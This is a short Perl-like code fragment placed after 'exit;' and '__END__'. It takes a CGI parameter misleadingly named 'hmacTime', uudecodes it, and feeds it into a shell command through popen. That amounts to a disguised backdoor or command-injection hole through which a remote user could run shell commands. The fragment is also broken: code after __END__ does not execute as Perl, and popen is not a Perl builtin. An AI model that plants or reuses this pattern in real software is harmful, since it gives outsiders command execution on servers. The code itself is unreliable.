exit;
__END__
$t=CGI::param(hmacTime);
$t=unpack("u",$t);
popen(*P,"cat $t","r");
